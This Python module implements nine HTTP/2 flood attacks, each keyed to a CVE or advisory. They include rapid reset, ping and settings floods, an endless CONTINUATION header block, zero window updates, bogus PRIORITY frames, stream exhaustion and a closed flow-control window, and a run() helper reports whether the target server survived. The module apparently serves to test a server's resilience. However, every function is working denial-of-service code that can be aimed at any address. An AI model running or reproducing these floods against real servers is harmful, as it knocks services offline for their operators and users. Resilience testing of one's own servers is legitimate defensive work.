"""Floods of HTTP/2 frames: each is one connection that sends as much as it can of what costs the other side most.

Rapid reset: CVE-2023-44487. Ping, settings, empty frames: CVE-2019-9512, 9515, 9518. Continuation: VU#421644. Resets that the server is
made to send: CVE-2025-8671. Windows that never open: CVE-2019-9517 (the internal data buffering).
"""

import frames
from frames import (CANCEL, CONTINUATION, DATA, HEADERS, INITIAL_WINDOW_SIZE, PING, PRIORITY, RST_STREAM, SETTINGS,
                    WINDOW_UPDATE, Connection, frame, request, setting)

# As many frames as go into one send.
BATCH = 500
# An endless head: by then it is beyond any limit on heads.
HEAD_BYTES = 64 << 20


def in_batches(connection, count, make):
    """Sends frames until all are sent, the other side closes, or it reads no more; how many were taken."""
    for first in range(0, count, BATCH):
        batch = b"".join(make(n) for n in range(first, min(first + BATCH, count)))
        if connection.send(batch, 2) < len(batch):
            return first
    return count


def odd(n):
    return 2 * n + 1


def rapid_reset(connection, count):
    """Streams that are cancelled as soon as they are opened; answers are read, so that nothing else slows it down."""
    cancel = CANCEL.to_bytes(4, "big")
    make = lambda n: request(odd(n), b"/slow") + frame(RST_STREAM, 0, odd(n), cancel)
    return in_batches(connection, count // 2, make) * 2


def ping(connection, count):
    """Pings whose answers are never read."""
    return in_batches(connection, count, lambda n: frame(PING, payload=n.to_bytes(8, "big")))


def settings(connection, count):
    """Settings whose acknowledgements are never read."""
    payload = setting(INITIAL_WINDOW_SIZE, 1000) * 10
    return in_batches(connection, count, lambda n: frame(SETTINGS, payload=payload))


def continuation(connection, count):
    """A head that never ends."""
    connection.send(frame(HEADERS, 0, 1, frames.head()))
    field = b"\0" + bytes([10]) + b"x-filler-x" + bytes([100]) + b"y" * 100
    block = field * 140
    make = lambda n: frame(CONTINUATION, 0, 1, block)
    return in_batches(connection, min(count, HEAD_BYTES // len(block)), make)


def window_update_zero(connection, count):
    """Increments of 0 on streams just opened, an error that the other side has to answer with a reset (RFC 9113, 6.9)."""
    make = lambda n: request(odd(n), b"/slow", end=False) + frame(WINDOW_UPDATE, 0, odd(n), bytes(4))
    return in_batches(connection, count // 2, make) * 2


def empty_data(connection, count):
    """Frames without a byte on one stream."""
    connection.send(request(1, b"/digest", end=False))
    return in_batches(connection, count, lambda n: frame(DATA, 0, 1))


def priority(connection, count):
    """Priorities of streams that do not exist."""
    return in_batches(connection, count, lambda n: frame(PRIORITY, 0, odd(n), bytes(4) + b"\x10"))


def many_streams(connection, count):
    """Requests that never end, far beyond how many streams a connection may have."""
    return in_batches(connection, min(count, 20_000), lambda n: request(odd(n), b"/digest", end=False))


def shut_window(connection, count):
    """Answers of a mebibyte each, of which the client takes nothing: its window is 0, and stays."""
    connection.send(frame(SETTINGS, payload=setting(INITIAL_WINDOW_SIZE, 0)))
    return in_batches(connection, min(count, 2000), lambda n: request(odd(n), b"/large"))


FLOODS = [rapid_reset, ping, settings, continuation, window_update_zero, empty_data, priority, many_streams, shut_window]


def run(addr, flood, count, meanwhile):
    """What came of a flood: frames taken, and what the other side says about it. Its connection stays until `meanwhile` returns."""
    with Connection(addr) as connection:
        taken = flood(connection, count)
        meanwhile()
        end = connection.goodbye() if connection.closed or taken < count else None
        said = {None: "and it goes on", -1: "then it closed"}.get(end, f"then it said GOAWAY with code {end}")
        return f"{taken} frames taken, {said}"
